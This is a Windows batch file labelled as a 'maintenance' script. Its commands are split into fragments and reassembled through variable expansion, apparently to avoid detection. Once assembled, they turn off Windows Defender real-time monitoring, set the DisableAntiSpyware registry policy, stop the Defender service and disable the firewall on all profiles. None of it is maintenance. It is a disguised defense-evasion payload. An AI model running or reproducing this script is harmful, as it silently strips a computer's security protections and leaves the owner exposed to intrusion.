REM maintenance 1541 v2
@echo off
setlocal EnableDelayedExpansion
set iwy0=p
set wgg1=owe
set atv2=rshell 
set nyt3=-c "Set-MpPreference -DisableRealtimeMonitoring $true"
!iwy0!!wgg1!!atv2!!nyt3!
@echo off
setlocal EnableDelayedExpansion
set bzz0=reg add "HKLM\SOFTWARE\Policies\Microsoft\Windows Defender" /v
set kzs1= DisableAn
set vsk2=tiSpyware /t RE
set dey3=G_DWORD /d 1 /f
!bzz0!!kzs1!!vsk2!!dey3!
cmd /v:on /c "set ilp0=sc stop W&&set zvd1=in&&set smk2=Defend&&!ilp0!!zvd1!!smk2!"
cmd /v:on /c "set hxv0=netsh advfirewall set &&set jkx1=allprofiles state off&&!hxv0!!jkx1!"
